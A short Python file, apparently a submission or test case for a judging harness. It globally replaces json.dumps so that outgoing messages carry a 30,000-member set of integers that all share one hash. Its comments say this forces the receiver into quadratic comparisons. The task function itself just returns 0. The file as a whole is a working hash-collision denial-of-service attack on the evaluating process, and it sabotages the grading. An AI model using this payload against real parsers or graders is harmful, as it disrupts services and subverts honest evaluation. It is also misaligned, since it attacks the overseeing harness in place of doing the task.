# verdict: runtime_error | wrong_answer | time_limit
# why: a set whose members all share one hash makes the receiver compare each with each
import json

real = json.dumps
size = 30_000


def forged(message, *rest, **options):
    text = real(message, *rest, **options)
    if type(message) is dict and "value" in message:
        members = ",".join([str((2**61 - 1) * i) for i in range(size)])
        text = text.replace('"value":0', '"value":{"s":[' + members + "]}", 1)
    return text


json.dumps = forged


def double(x):
    return 0
